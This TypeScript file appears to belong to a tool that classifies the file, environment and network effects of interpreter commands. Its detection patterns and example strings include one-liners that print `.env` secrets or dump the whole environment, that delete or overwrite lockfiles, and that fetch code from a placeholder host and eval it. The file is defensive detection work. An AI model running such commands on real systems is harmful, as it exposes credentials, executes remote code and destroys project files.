// Interpreters: the arguments of a script are the script's business (a secret path among them
// counts as read); one-liners are judged by their code (see ../code.ts, and CODE_APIS below).
import type { ProgramSpec } from './types';
import { namesOnly } from './table';

/**
 * Per language: calls that read files, calls whose first literal argument is written, calls whose
 * first literal argument is deleted (a rename deletes its source), and whole-environment dumps.
 */
export const CODE_APIS: Record<
  string,
  {
    read: RegExp;
    write: RegExp;
    /** A write call whose path is a name (group 1): a variable set once to a literal, or the script's arguments (`sys.argv[1]`). */
    writeRef?: RegExp;
    /**
     * Calls that bind a Unix socket at their first literal argument, which creates that file (how
     * `socket`): a new file with nothing written into it, but a stand-in listening where a client expects its server.
     */
    bind?: RegExp;
    /** `sys.argv[N]`, `process.argv[N]`: N (group 1) minus `first` is the index of the argument after the code. */
    argv?: { re: RegExp; first: number };
    delete: RegExp;
    envDump: RegExp;
    examples: string[];
  }
> = {
  python: {
    read: /\bopen\s*\(|read_text|read_bytes|readlines|\bloadtxt\b|dotenv_values|\bload_dotenv\b(?:(?!\bload_dotenv\b).)*?print|shutil\.copy/,
    write: /\bopen\s*\(\s*(?=(['"])[^'"]*\1\s*,\s*(?:mode\s*=\s*)?['"][wax+])|\bwrite_text\s*\(|Path\s*\(\s*(?=(['"])[^'"]*\2\s*\)\s*\.write_(?:text|bytes))/g,
    // A Unix socket bound at a literal path: sock.bind('/x.sock'), socketserver.UnixStreamServer('/x.sock', H).
    bind: /\.bind\s*\(\s*(?=['"])|\bUnix(?:Stream|Datagram)Server\s*\(\s*(?=['"])/g,
    writeRef: /\bopen\s*\(\s*([\w.]+(?:\[\d+\])?)\s*,\s*(?:mode\s*=\s*)?['"][wax+]|\bPath\s*\(\s*([\w.]+(?:\[\d+\])?)\s*\)\s*\.write_(?:text|bytes)/g,
    argv: { re: /^sys\.argv\[(\d+)\]$/, first: 1 },
    delete:
      /\b(?:os\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\.(?:rmtree|move))\s*\(\s*|\bPath\s*\(\s*(?=(['"])[^'"]*\1\s*\)\s*\.(?:unlink|rmdir|rename|replace)\b)/g,
    envDump: /\bos\.environ\b(?!\s*(?:\[|\.get\b|\.setdefault\b|\.pop\b|\.keys\b|\.__contains__))|\bos\.getenv\s*\(\s*\)|\benviron\.copy\s*\(/,
    examples: [
      'python3 -c "import os; os.remove(\'go.sum\')"',
      'python3 -c "print(open(\'.env\').read())"',
      'python3 -c "import os; print(os.environ)"',
      "python3 -c \"open('package-lock.json','w').write('{}')\"",
    ],
  },
  js: {
    read: /readFileSync|readFile\s*\(|createReadStream|Bun\.file|Deno\.readTextFile|Deno\.readFile|fs\.cp|copyFile/,
    write: /\b(?:writeFile|appendFile|createWriteStream|Deno\.writeTextFile|Deno\.writeFile|Bun\.write)(?:Sync)?\(/g,
    // server.listen('/x.sock') (a string there is a socket path) and Bun's { unix: '/x.sock' }.
    bind: /\.listen\s*\(\s*(?=['"`])|\bunix\s*:\s*(?=['"`])/g,
    writeRef: /\b(?:writeFile|appendFile|createWriteStream|Deno\.writeTextFile|Deno\.writeFile|Bun\.write)(?:Sync)?\(\s*([\w.$]+(?:\[\d+\])?)\s*[,)]/g,
    argv: { re: /^process\.argv\[(\d+)\]$/, first: 1 },
    delete: /\b(?:unlink|rm|rmdir|rename|truncate)(?:Sync)?\s*\(\s*/g,
    envDump: /\bprocess\.env\b(?!\s*(?:\.|\[|\?\.))|\bDeno\.env\.toObject\s*\(|\bBun\.env\b(?!\s*(?:\.|\[))/,
    examples: [
      "node -e \"require('fs').unlinkSync('go.sum')\"",
      "node -e \"console.log(require('fs').readFileSync('.env','utf8'))\"",
      'node -p process.env',
      "node -e \"require('fs').writeFileSync('yarn.lock', '')\"",
    ],
  },
  ruby: {
    read: /File\.(?:read|open|readlines|foreach)|IO\.(?:read|readlines)|\bopen\s*\(/,
    write: /\bFile\.write\s*\(|\bFile\.open\s*\(\s*(?=(['"])[^'"]*\1\s*,\s*['"][wa])/g,
    // UNIXServer.new('/x.sock'), Socket.unix_server_socket('/x.sock').
    bind: /\b(?:UNIXServer\.(?:new|open)|Socket\.unix_server_(?:socket|loop))\s*(?:\(\s*)?(?=['"])/g,
    writeRef: /\bFile\.write\s*\(\s*(\w+(?:\[\d+\])?)\s*,|\bFile\.open\s*\(\s*(\w+(?:\[\d+\])?)\s*,\s*['"][wa]/g,
    argv: { re: /^ARGV\[(\d+)\]$/, first: 0 },
    delete: /\b(?:File\.(?:delete|unlink|rename|truncate)|FileUtils\.(?:rm|rm_f|rm_r|rm_rf|mv|remove|remove_dir|remove_entry))\s*\(?\s*/g,
    envDump: /\bENV\b(?!\s*(?:\[|\.fetch\b|\.key\?|\.include\?|\.keys\b))/,
    examples: ['ruby -e "File.delete(\'go.sum\')"', 'ruby -e "puts File.read(\'.env\')"', 'ruby -e "p ENV"'],
  },
  perl: {
    read: /\bopen\s*\(|\bslurp\b|<\$?\w*>|read_file/,
    write: /\bopen\s*\(\s*\w+\s*,\s*(?=['"]>)|write_file\s*\(/g,
    // IO::Socket::UNIX->new(Local => '/x.sock', …), bind(S, sockaddr_un('/x.sock')).
    bind: /\bLocal\b\s*=>\s*(?=['"])|\bbind\s*\(\s*\w+\s*,\s*(?:pack_)?sockaddr_un\s*\(\s*(?=['"])/g,
    delete: /\b(?:unlink|rename|rmtree|remove_tree|truncate)\s*\(?\s*/g,
    envDump: /%ENV\b|\\%ENV|\bkeys\s+%ENV\b.*\$ENV/,
    examples: ['perl -e "unlink \'go.sum\'"', 'perl -e "print %ENV"', 'perl -e \'open(F, ".env"); print <F>\''],
  },
  php: {
    read: /file_get_contents|\bfopen\b|\breadfile\b|\bfile\s*\(|parse_ini_file|highlight_file|show_source/,
    write: /\bfile_put_contents\s*\(/g,
    writeRef: /\bfile_put_contents\s*\(\s*(\$\w+(?:\[\d+\])?)\s*,/g,
    argv: { re: /^\$argv\[(\d+)\]$/, first: 1 },
    delete: /\b(?:unlink|rename|rmdir|ftruncate)\s*\(\s*/g,
    envDump: /\bgetenv\s*\(\s*\)|\$_ENV\b(?!\s*\[)|\$_SERVER\b(?!\s*\[)/,
    examples: ['php -r "unlink(\'go.sum\');"', 'php -r "echo file_get_contents(\'.env\');"', 'php -r "print_r(getenv());"'],
  },
  lua: {
    read: /io\.open|io\.lines|io\.read/,
    write: /io\.open\s*\(\s*(?=(['"])[^'"]*\1\s*,\s*['"][wa])/g,
    delete: /\bos\.(?:remove|rename)\s*\(\s*/g,
    envDump: /(?!)/,
    examples: ['lua -e "os.remove(\'go.sum\')"', "lua -e \"print(io.open('.env'):read('a'))\""],
  },
  r: {
    read: /readLines|read\.csv|readRDS|scan\s*\(|readRenviron/,
    write: /writeLines\s*\(|write\.csv\s*\(/g,
    delete: /\b(?:file\.remove|unlink|file\.rename)\s*\(\s*/g,
    envDump: /Sys\.getenv\s*\(\s*\)/,
    examples: ['Rscript -e "file.remove(\'go.sum\')"', 'Rscript -e "readLines(\'.env\')"'],
  },
};

/**
 * Per language: dotenv loaders whose result is the file's values (`dotenv_values()`, dotenv's
 * `config().parsed`, `Dotenv.load`, `Dotenv::createImmutable(…)->load()`, Deno's `load()`). Printed
 * (`prints`), that result is the file's content on screen; `names` marks uses that keep only the
 * names or a count (`len(…)`, `.keys()`, `Object.keys(…)`, `'X' in …`). The file is the call's
 * path literal when it gives one, else `.env` in the working folder. `module`: the code names the library.
 */
export const DOTENV_LOADERS: Record<string, { module: RegExp; loads: RegExp; prints: RegExp; names: RegExp; examples: string[] }> = {
  python: {
    module: /\bdotenv\b/,
    loads: /\bdotenv_values\b/,
    prints: /\b(?:print|pprint)\s*\(|\bjson\.dumps\s*\(|\bsys\.std(?:out|err)\.write\s*\(/,
    names: /\blen\s*\(\s*(?:dotenv\.)?dotenv_values\s*\([^()]*\)\s*\)|\bdotenv_values\s*\([^()]*\)\s*\.keys\s*\(|['"]\s*in\s+(?:dotenv\.)?dotenv_values\s*\(/,
    examples: ['python3 -c "from dotenv import dotenv_values; print(dotenv_values())"'],
  },
  js: {
    module: /\bdotenv\b/,
    loads: /\.parsed\b|\{\s*parsed\s*\}\s*=|std\/dotenv/,
    prints: /\bconsole\.(?:log|dir|info|error|warn|table)\s*\(|\bprocess\.std(?:out|err)\.write\s*\(/,
    names: /\bObject\.keys\s*\(\s*(?:require\s*\(\s*['"]dotenv['"]\s*\)|\w+)\.config\s*\([^()]*\)\s*\.parsed\s*\)/,
    examples: [`node -e "console.log(require('dotenv').config().parsed)"`],
  },
  ruby: {
    module: /\bDotenv\b/,
    loads: /\bDotenv\.(?:load|overload|parse)\b/,
    prints: /(?:^|[;{(]\s*)(?:puts|print|p|pp)\b|\$stdout\.(?:puts|write)/,
    names: /\bDotenv\.(?:load|overload|parse)\b(?:\([^()\n]{0,200}\))?\.keys\b/,
    examples: [`ruby -e "require 'dotenv'; p Dotenv.load"`],
  },
  php: {
    module: /\bDotenv\b/,
    loads: /\bDotenv::create(?:Immutable|Mutable|UnsafeImmutable|UnsafeMutable|ArrayBacked)?\s*\([^()]*\)\s*->\s*(?:safeLoad|load)\s*\(/,
    prints: /\b(?:print_r|var_dump|var_export|echo|print|printf|json_encode)\b/,
    names: /\barray_keys\s*\(\s*(?:\\?Dotenv\\)?Dotenv::/,
    examples: [`php -r "print_r(Dotenv\\Dotenv::createImmutable('.')->load());"`],
  },
};
namesOnly(DOTENV_LOADERS);

/**
 * Per language: code that evaluates text (eval, exec, Function) and calls that fetch from the
 * network; both together run downloaded code. With `fetches` alone the code sends to the hosts of
 * its URL literals.
 */
export const CODE_EVAL: Record<string, { evaluates: RegExp; fetches: RegExp; example: string }> = {
  php: {
    evaluates: /\beval\s*\(|\bassert\s*\(|\bcreate_function\s*\(/,
    fetches: /file_get_contents\s*\(\s*['"]?(?:https?|ftp):|curl_exec|fsockopen|\bfopen\s*\(\s*['"](?:https?|ftp):/,
    example: `php -r 'eval(file_get_contents("https://x.example.com/p"));'`,
  },
  python: {
    evaluates: /\b(?:exec|eval)\s*\(|compile\s*\(/,
    fetches: /urlopen|requests\.(?:get|post|put|patch|delete|request|Session)|httpx\.|urllib\.request|http\.client|aiohttp/,
    example: `python3 -c "import urllib.request as u; exec(u.urlopen('https://x.example.com/p').read())"`,
  },
  js: {
    // eval called, or passed as a function value (`.then(eval)`).
    evaluates: /\beval\s*[(),;]|new\s+Function\s*\(|\bFunction\s*\(|vm\.run|runInThisContext|import\s*\(\s*['"]https?:/,
    fetches: /\bfetch\s*\(|https?\.get\s*\(|axios|require\s*\(\s*['"]https?['"]\s*\)|import\s*\(\s*['"]https?:/,
    example: `node -e "fetch('https://x.example.com/p').then(r => r.text()).then(eval)"`,
  },
  ruby: {
    evaluates: /\beval\b|instance_eval|class_eval|\bsend\s*\(/,
    fetches: /open-uri|URI\.open|Net::HTTP|\bopen\s*\(\s*['"]https?:/,
    example: `ruby -e 'require "open-uri"; eval(URI.open("https://x.example.com/p").read)'`,
  },
  perl: { evaluates: /\beval\b/, fetches: /LWP|HTTP::Tiny|get\s*\(\s*['"]https?:/, example: `perl -MLWP::Simple -e 'eval get("https://x.example.com/p")'` },
};
namesOnly(CODE_EVAL);

const ARGS = { rest: 'arg' as const };

/** perl's -0[digits], -l[digits] and -i[extension]: values attached or absent (`-0pi` is -0 -p -i). */
const PERL_OPTIONAL: Record<string, 'digits' | 'rest'> = { '-0': 'digits', '-l': 'digits', '-i': 'rest' };
namesOnly(PERL_OPTIONAL);

export const INTERPRETERS: ProgramSpec[] = [
  {
    names: ['python', 'python2', 'python3', 'pypy', 'pypy3'],
    rows: [
      // python -m pip config set/unset/edit: pip's own configuration file (signatures/config-files.ts).
      ...['set', 'unset', 'edit'].map((sub) => ({
        sub: ['-m', 'pip', 'config', sub],
        subTakes: ['--editor'],
        unless: ['--site', '--global'],
        takes: ['--editor'],
        how: 'pip',
        effects: [{ kind: 'write-file' as const, what: '~/.config/pip/pip.conf' }],
        examples: [
          {
            command: `python3 -m pip config ${sub} global.index-url${sub === 'set' ? ' https://x.example.dev/simple' : ''}`,
            effects: ['write(/home/user/.config/pip/pip.conf, pip)'],
          },
        ],
      })),
      // python -m dotenv list/get: python-dotenv's CLI, which prints the values of .env (core/programs/env.ts DOTENV).
      ...['list', 'get'].map((sub) => ({
        sub: ['-m', 'dotenv', sub],
        effects: [{ kind: 'read-file' as const, what: '.env' }],
        examples: [{ command: `python3 -m dotenv ${sub}${sub === 'get' ? ' API_KEY' : ''}`, effects: ['read(.env, content)'] }],
      })),
      {
        when: ['-c'],
        takes: ['-W', '-X'],
        opts: { '-c': 'none' },
        ...ARGS,
        examples: [
          { command: 'python3 -c "print(open(\'.env\').read())"', effects: ['read?(.env, content)'] },
          { command: "python3 -c \"open('package-lock.json','w').write('{}')\"", effects: ['write(package-lock.json, python3 code, edit)'] },
        ],
      },
      {
        when: ['-m'],
        takes: ['-W', '-X'],
        opts: { '-m': 'none' },
        ...ARGS,
        examples: [{ command: 'python3 -m json.tool .env', effects: ['read?(.env, content)'] }],
      },
      {
        // The script itself is read: a file that is not Python (python3 .env) is quoted in the traceback.
        takes: ['-W', '-X'],
        pos: ['read'],
        ...ARGS,
        examples: [
          { command: 'python3 show.py .env', effects: ['read(show.py, content)', 'read?(.env, content)'] },
          { command: 'python3 .env', effects: ['read(.env, content)'] },
        ],
      },
    ],
  },
  {
    names: ['node', 'nodejs', 'bun', 'deno', 'tsx', 'ts-node'],
    rows: [
      {
        // node --snapshot-blob X --build-snapshot entry.js runs entry.js and writes the startup snapshot to X
        // (the snapshot is code: `node --snapshot-blob X app.js` starts from it).
        when: ['--build-snapshot'],
        takes: ['-r', '--require', '--import', '--loader', '--inspect-port'],
        opts: { '--snapshot-blob': 'write', '--build-snapshot-config': 'read', '--env-file': 'load', '--env-file-if-exists': 'load' },
        pos: ['read'],
        ...ARGS,
        how: 'node --build-snapshot',
        examples: [
          {
            command: 'node --snapshot-blob app.blob --build-snapshot app.js',
            effects: ['write(app.blob, node --build-snapshot)', 'read(app.js, content)'],
          },
          {
            command: 'node --build-snapshot --snapshot-blob=/tmp/app.blob app.js',
            effects: ['write(/tmp/app.blob, node --build-snapshot)', 'read(app.js, content)'],
          },
        ],
      },
      {
        when: ['-e', '--eval', '-p', '--print'],
        takes: ['-r', '--require', '--import', '--loader'],
        opts: { '-e': 'none', '--eval': 'none', '-p': 'none', '--print': 'none', '--env-file': 'load', '--env-file-if-exists': 'load' },
        ...ARGS,
        examples: [{ command: 'node -p process.env', effects: ['read(env)'] }],
      },
      {
        takes: ['-r', '--require', '--import', '--loader', '--inspect-port'],
        // --snapshot-blob X without --build-snapshot starts from the snapshot in X.
        opts: { '--env-file': 'load', '--env-file-if-exists': 'load', '--snapshot-blob': 'read' },
        pos: ['read'],
        ...ARGS,
        examples: [
          { command: 'node print.js .env', effects: ['read(print.js, content)', 'read?(.env, content)'] },
          { command: 'node .env', effects: ['read(.env, content)'] },
          { command: 'node --env-file=.env server.js', effects: ['read(.env, load)', 'read(server.js, content)'] },
        ],
      },
    ],
  },
  {
    names: ['perl'],
    rows: [
      {
        when: ['-i'],
        also: ['-p', '-n'],
        takes: ['-M', '-m', '-I', '-F'],
        optional: PERL_OPTIONAL,
        opts: { '-e': 'code', '-E': 'code' },
        codeFirst: true,
        rest: 'write',
        how: 'perl -i',
        lang: 'sed',
        examples: [
          { command: "perl -pi -e 's/4.17.20/4.17.21/' yarn.lock", effects: ['write(yarn.lock, perl -i, edit)'] },
          { command: "perl -0pi -e 's/a/b/' yarn.lock", effects: ['write(yarn.lock, perl -i, edit)'] },
          { command: "perl -0777 -pi.bak -e 's/a/b/' yarn.lock", effects: ['write(yarn.lock, perl -i, edit)'] },
          { command: "perl -l -i -pe 's/a/b/' yarn.lock", effects: ['write(yarn.lock, perl -i, edit)'] },
        ],
      },
      {
        when: ['-n', '-p'],
        takes: ['-M', '-m', '-I', '-F'],
        optional: PERL_OPTIONAL,
        opts: { '-e': 'code', '-E': 'code' },
        codeFirst: true,
        rest: 'read',
        examples: [{ command: 'perl -ne print .env', effects: ['read(.env, content)'] }],
      },
      {
        when: ['-e', '-E'],
        takes: ['-M', '-m', '-I', '-F', '-e', '-E'],
        optional: PERL_OPTIONAL,
        ...ARGS,
        examples: [{ command: 'perl -e "print 1" notes.txt', effects: ['read?(notes.txt, content)'] }],
      },
      {
        takes: ['-M', '-m', '-I', '-F'],
        optional: PERL_OPTIONAL,
        pos: ['read'],
        ...ARGS,
        examples: [{ command: 'perl .env', effects: ['read(.env, content)'] }],
      },
    ],
  },
  {
    names: ['ruby'],
    rows: [
      {
        // ruby -i[ext] -p -e CODE FILE…: each file is rewritten with what the code prints.
        when: ['-i'],
        also: ['-p', '-n'],
        takes: ['-r', '-I', '-F'],
        optional: { '-i': 'rest' },
        opts: { '-e': 'code' },
        rest: 'write',
        how: 'ruby -i',
        examples: [{ command: `ruby -pi -e 'gsub(/3/, "2")' Cargo.lock`, effects: ['write(Cargo.lock, ruby -i)'] }],
      },
      {
        when: ['-n', '-p'],
        takes: ['-r', '-I', '-F', '-e'],
        rest: 'read',
        examples: [{ command: "ruby -ne 'puts $_' .env", effects: ['read(.env, content)'] }],
      },
      {
        when: ['-e'],
        takes: ['-r', '-I', '-F', '-e'],
        ...ARGS,
        examples: [{ command: 'ruby -e "puts File.read(\'.env\')"', effects: ['read?(.env, content)'] }],
      },
      { takes: ['-r', '-I', '-F'], pos: ['read'], ...ARGS, examples: [{ command: 'ruby .env', effects: ['read(.env, content)'] }] },
    ],
  },
  {
    names: ['php'],
    rows: [
      {
        // phpinfo(): the configuration and every environment variable.
        when: ['-i', '--info'],
        effects: [{ kind: 'read-env', what: 'environment' }],
        examples: [{ command: 'php -i', effects: ['read(env)'] }],
      },
      { takes: ['-r', '-d', '-c', '-f'], ...ARGS, examples: [{ command: 'php -r "echo file_get_contents(\'.env\');"', effects: ['read?(.env, content)'] }] },
    ],
  },
  {
    names: ['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk'],
    rows: [
      {
        when: ['-i'],
        takes: ['-F', '-v', '-i'],
        opts: { '-f': 'read' },
        codeFirst: true,
        rest: 'write',
        how: 'awk -i inplace',
        examples: [{ command: "awk -i inplace '{print}' go.sum", effects: ['write(go.sum, awk -i inplace)'] }],
      },
      {
        takes: ['-F', '-v'],
        opts: { '-f': 'read' },
        codeFirst: true,
        rest: 'read',
        examples: [
          { command: 'awk 1 .env', effects: ['read(.env, content)'] },
          { command: "awk -F= '{print $1}' .env", effects: ['read(.env, names)'] },
          { command: "awk -F= '{print $2}' .env", effects: ['read(.env, content)'] },
        ],
      },
    ],
  },
  {
    names: ['jq', 'gojq', 'jaq'],
    rows: [
      {
        takes: ['--indent', '-L'],
        takes2: ['--arg', '--argjson', '--slurpfile', '--rawfile'],
        // --rawfile NAME FILE: the file's text becomes $NAME (the second value is the file).
        opts: { '-f': 'read', '--from-file': 'read', '--slurpfile': 'read', '--rawfile': 'read' },
        codeFirst: true,
        codeEnv: 'jq',
        rest: 'read',
        examples: [
          { command: 'jq . package-lock.json', effects: ['read(package-lock.json, content)'] },
          { command: 'jq -n env', effects: ['read(env)'] },
          { command: "jq -n '$ENV.GITHUB_TOKEN'", effects: ['read($GITHUB_TOKEN)'] },
          { command: 'jq .env config.json', effects: ['read(config.json, content)'] },
          { command: "jq -n --rawfile x .env '$x'", effects: ['read(.env, content)'] },
          { command: "jq -n --arg v 1 --rawfile x README.md '$x'", effects: ['read(README.md, content)'] },
        ],
      },
    ],
  },
  {
    names: ['yq'],
    rows: [
      {
        when: ['-i', '--inplace'],
        takes: ['-o', '--output-format', '-p', '--input-format'],
        codeFirst: true,
        rest: 'write',
        how: 'yq -i',
        examples: [{ command: "yq -i '.lockfileVersion = 2' pnpm-lock.yaml", effects: ['write(pnpm-lock.yaml, yq -i)'] }],
      },
      {
        takes: ['-o', '--output-format', '-p', '--input-format'],
        codeFirst: true,
        rest: 'read',
        examples: [{ command: 'yq .services docker-compose.yml', effects: ['read(docker-compose.yml, content)'] }],
      },
    ],
  },
  {
    names: ['xargs'],
    rows: [
      {
        takes: ['-I', '-L', '-n', '-P', '-d', '-E', '-s', '--max-args', '--max-procs', '--delimiter', '--replace', '--max-lines', '--eof'],
        opts: { '-a': 'read', '--arg-file': 'read' },
        rest: 'exec',
        examples: [
          { command: 'xargs -a .env echo', effects: ['read(.env, content)', 'execute(shell: echo)'] },
          { command: 'xargs -n1 echo < files.txt', effects: ['execute(shell: echo)', 'read(files.txt, content)'] },
        ],
      },
    ],
  },
];
